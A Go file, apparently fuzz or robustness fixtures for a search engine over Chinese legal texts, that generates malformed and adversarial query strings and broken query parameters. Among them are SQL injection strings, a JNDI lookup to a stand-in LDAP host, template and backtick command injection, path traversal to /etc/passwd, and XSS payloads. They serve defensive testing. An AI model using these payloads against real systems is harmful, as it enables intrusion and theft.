package main

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"

	"tiaowen/corpus"
	"tiaowen/search"
)

// attack is a kind of texts that break search engines, and some of them.
type attack struct {
	name  string
	texts []string
}

// hot are letters and words of which some stand in nearly every passage of law.
const (
	hotLetters = "的一是在不了有和人为上中大会国个以我要他时来用们生到作地于出就分对成可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处理世车价林"
	hotWords   = "应当 规定 有关 人民 机关 国务 部门 依法 法律 行政 管理 单位 公民 国家 政府 或者 以上 下列 情形 责任 处罚 罚款 申请 批准 登记 合同 当事 人员 组织 工作 负责 主管 监督 检查 保护 安全 企业 社会 本法 条例 施行 办法 制定 根据 实施 违反 刑事 民事 诉讼 仲裁 赔偿 损失 期限 日内 通知 决定 许可 备案 审批 委员 会议 代表 选举 财产"
)

// attacks are the texts that were typed, by what they try.
func attacks() []attack {
	words := strings.Fields(hotWords)
	quote := func(s string) string { return `"` + s + `"` }
	return []attack{
		{"wildcards", []string{"*", "?", "*:*", "a*", "*a*b*c*", "党*员", "?????", "*的*", strings.Repeat("*", 500), strings.Repeat("a*", 250), "[a-z]*", "text:*"}},
		{"fuzzy", []string{"党员~", "应当~2", "a~9999", "党员^999999999", "党员~0.0000001", "\"应当 规定\"~99999", strings.Repeat("法~2 ", 60), "+党 +员 -群", "AND OR NOT", "(((党))) AND ((", "党 && 员 || !群"}},
		{"all different", []string{firstRunes(hotLetters, 500), hanFrom(0x4e00, 500), hanFrom(0x5000, 500), hanFrom(0x9e00, 500), hanFrom(0x20000, 500), hanFrom(0xac00, 500), hanFrom(0x3400, 500), hanFrom('a', 500)}},
		{"many terms", []string{strings.Join(words, " "), join(words, quote), join(words, func(s string) string { return "-" + s }), join(letters(hotLetters, 64), quote), "党 " + join(letters(hotLetters, 63), func(s string) string { return "-" + s }),
			join(letters(hotLetters, 65), quote), join(letters(hotLetters, 249), func(s string) string { return s }), join(pairs(hotLetters, 64), quote), join(pairs(hotLetters, 64), func(s string) string { return s }), strings.Join(pairs(hotLetters, 166), " ")}},
		{"quotes", []string{`"`, `""`, `"""`, `"""""""`, strings.Repeat(`"`, 499), strings.Repeat(`" `, 250), `"党`, `党"`, `"党"员"`, "“", "”", "“”", "“党“员”", strings.Repeat("“", 499), strings.Repeat("“", 250) + strings.Repeat("”", 250), strings.Repeat("“党", 125) + strings.Repeat("”", 125), `"\"`, `"\\"`, strings.Repeat(`\"`, 250), `"` + strings.Repeat(`\"`, 249), "«党»‹员›", "『党』「员」", `'党'`, "＂党＂"}},
		{"fields", []string{"kind:", "kind:regulation", strings.Repeat("kind:regulation ", 31), strings.Repeat("year:2020 ", 50), "year:99999999999999999999", "year:-1", "year:2020年", "issuer:" + strings.Repeat("国", 490), strings.Repeat("title:法 ", 70), strings.Repeat("issuer:国 ", 70), "title:\"", "title:\"法", strings.Repeat("a:", 250), "：：：：", "kind：法规", "id:1 OR 1:1", "_all:党", "document:../../etc/passwd"}},
		{"minus", []string{"-", "--", strings.Repeat("-", 500), "-的", "-的 -是 -有", `-"`, `-""`, "- 党", "党 -党", "党员 -员", strings.Repeat("- ", 250), "-kind:regulation", "−党 —党 –党 －党", `-"应当" 应当`}},
		{"nobody sees", []string{"\x00", "党\x00员", strings.Repeat("\x00", 500), "\u200b", strings.Repeat("\u200b", 499), "党\u200b员", "\u202e党员\u202c", "\u2066\u2067\u2068\u2069", strings.Repeat("\u202e", 5000), "\ufeff党", "\u00ad\u00ad", "党\u0301\u0302\u0303", "e" + strings.Repeat("\u0301", 498), "\U000e0041\U000e0042", "\u0085\u2028\u2029", "\x1b[31m党\x1b[0m", "\u3164\u115f", "党\ufe0f\ufe0e"}},
		{"no text", []string{"\xff", "党\xff员", "\xed\xa0\x80", "\xed\xa0\x80\xed\xb0\x80", "\xc0\x80", "\xf8\x88\x80\x80\x80", "\xe5\x85", strings.Repeat("\x80", 500), "\xf4\x90\x80\x80", "\ufffd\ufffd"}},
		{"regular expressions", []string{"/.*/", "(a+)+$", "^(党|员)*$", `[^\x00-\x7f]{1,500}`, "(?R)", "(((((a*)*)*)*)*)b", `\d{1,9999}`, "(?i:党)", `\p{Han}+`}},
		{"other languages", []string{"'; DROP TABLE passages;--", "' OR '1'='1", "\" NEAR/99999 \"", "1 UNION SELECT * FROM sqlite_master", "{!lucene}*:*", `{"query":{"match_all":{}}}`, "$where: sleep(10000)", "{{7*7}}", "${jndi:ldap://x.example/a}", "%00%ff%2e%2e", "../../../etc/passwd", "`sleep 10`", "NULL", "undefined", "-1e999"}},
		{"HTML", []string{"<script>alert(1)</script>", "<mark>党</mark>", "</mark>党<mark>", "&lt;党&gt;", "<![CDATA[党]]>", "<!--党", "<b>" + strings.Repeat("<", 400), "]]>", "党<img src=x onerror=alert(1)>员"}},
		{"hottest letters", []string{"的", "\"的\"", "一", "的的", "的一", "第", "条", "、", "法", "人", "第 条", "的 一 是", "应当", "\"应当\" \"规定\"", "国"}},
		{"only punctuation", []string{"。", "，，，，", strings.Repeat("。", 500), "《》", "《《《《", "！@#￥%……&*（）", "()[]{}<>", "\\", "\\\\\\\\", "###", "id#", "#art_1", "~", "——", "///", "\u3000\u3000", "       "}},
		{"digits", []string{"0", strings.Repeat("9", 500), "1e308", "0x7fffffff", "二〇二〇", strings.Repeat("〇", 500), "2020-13-45", strings.Repeat("1 ", 250), "一二三四五六七八九十百千万亿", strings.Repeat("万亿", 250), "½⅓Ⅷ①⑳㈠", "٠١٢٣"}},
		{"full width", []string{"ＡＢＣ", "１２３", "＊", "？", strings.Repeat("ａ", 500), "ｋｉｎｄ：ｒｅｇｕｌａｔｉｏｎ", "－党", "ﾊﾝｶｸ", "　党　员　", "黨員應當", "㍿㎏㏄"}},
		{"repeated", []string{strings.Repeat("法", 499), strings.Repeat("的", 500), strings.Repeat("应当", 250), strings.Repeat("人民", 250), strings.Repeat("应当 ", 166), quote(strings.Repeat("的", 498)), quote(strings.Repeat("应当", 249)), strings.Repeat("a", 500), strings.Repeat("规定应当有关", 83), strings.Repeat("吗", 500), strings.Repeat("怎么办？", 125), strings.Repeat("法", 501)}},
		{"pinyin", []string{"dangyuan", "xianxianxianxian", strings.Repeat("zhi", 166), strings.Repeat("xian", 125), strings.Repeat("a", 64), strings.Repeat("ng", 250), "zhongguogongchandangzhibugongzuotiaoli", "vvvvvvv", "lüèlǜe", "shishishishishishishishishi", strings.Repeat("shi ", 60), "d'y", "zbgztl"}},
		{"long words", []string{strings.Repeat("supercalifragilistic", 25), strings.Repeat("abcdefghijklmnopqrstuvwxyz", 19), strings.Repeat("pneumono", 63), strings.Repeat("Ⅷ", 500), strings.Repeat("ﬁ", 500), strings.Repeat("ß", 500), strings.Repeat("İ", 500), strings.Repeat("x", 100_000), strings.Repeat("党", 100_000), strings.Repeat(" ", 1<<20), strings.Repeat("党员 ", 100_000)}},
		{"addresses", []string{"第九千九百九十九条之" + strings.Repeat("九", 480), strings.Repeat("第", 500), strings.Repeat("第一条", 166), numbered("第%d条", 80), numbered("第%d条、", 80), "民法典" + numbered("第%d条", 70), "刑法第1条至第99999999条", "民法典第一条至第一千二百六十条", "宪法第" + strings.Repeat("一百", 240) + "条", "第一条第一款第一项第一目" + strings.Repeat("第一项", 150), "《" + strings.Repeat("《", 400), strings.Repeat("《民法典》", 100), "《" + strings.Repeat("中华人民共和国", 70) + "法》第1条",
			"民法典第0条", "民法典第-1条", "民法典第1.5条", "民法典第99999999999999999999条", strings.Repeat("民法典第一条 ", 60), "第一条之一之一之一之一之一", strings.Repeat("之一", 250), strings.Repeat("法", 250) + "第1条", strings.Repeat("关于", 240) + "的决定", "法#" + strings.Repeat("art_1__", 70), strings.Repeat("前款", 250), "本法第" + strings.Repeat("十", 490) + "条"}},
	}
}

// bent are queries whose other parts are bent.
func bent() map[string]search.Query {
	deep := base64.RawURLEncoding.EncodeToString(slices.Repeat([]byte{0xff}, 24))
	long := strings.Repeat("法", 100_000)
	return map[string]search.Query{
		"cursor that is none":    {Text: "应当", Cursor: "%%%"},
		"cursor of nothing":      {Text: "应当", Cursor: base64.RawURLEncoding.EncodeToString(make([]byte, 24))},
		"cursor at the end":      {Text: "应当", Cursor: deep},
		"cursor of a megabyte":   {Text: "应当", Cursor: strings.Repeat("A", 1<<20)},
		"cursor and no words":    {Cursor: deep},
		"limit below":            {Text: "应当", Limit: -1},
		"limit above":            {Text: "应当", Limit: 1 << 40},
		"document that is none":  {Text: "应当", Document: "../../\x00"},
		"document of a megabyte": {Text: "应当", Document: long},
		"days that are none":     {Text: "应当", From: "9999-99-99", To: "0000-00-00", AsOf: "x"},
		"days of a megabyte":     {Text: "应当", From: corpus.Date(long), AsOf: corpus.Date(long)},
		"order that is none":     {Text: "应当", Sort: "random()", Group: "everything", Match: "none"},
		"values that are none":   {Text: "应当", Filter: search.Filter{"kind": letters(hotLetters, 300), "topic": letters(hotLetters, 300), "issuer": {long}, "year": {"-1", "4611686018427387904"}}},
		"everything at once":     {Text: firstRunes(hotLetters, 500), Match: search.MatchAny, Limit: 100, Lanes: true, Group: search.GroupDocument, Sort: search.Oldest, Explain: true},
	}
}

// firstRunes is the first n letters of s, each once.
func firstRunes(s string, n int) string {
	return strings.Join(letters(s, n), "")
}

// letters is the first n letters of s, each once.
func letters(s string, n int) []string {
	var out []string
	for _, r := range s {
		if l := string(r); len(out) < n && !slices.Contains(out, l) {
			out = append(out, l)
		}
	}
	return out
}

// pairs is the first n pairs of neighbouring letters of s.
func pairs(s string, n int) []string {
	runes := []rune(s)
	var out []string
	for i := 0; i+1 < len(runes) && i < n; i++ {
		out = append(out, string(runes[i:i+2]))
	}
	return out
}

// hanFrom is n neighbouring code points.
func hanFrom(first rune, n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteRune(first + rune(i))
	}
	return b.String()
}

// numbered is a form filled with 1 to n.
func numbered(form string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, form, i+1)
	}
	return b.String()
}

func join(words []string, each func(string) string) string {
	var out []string
	for _, w := range words {
		out = append(out, each(w))
	}
	return strings.Join(out, " ")
}
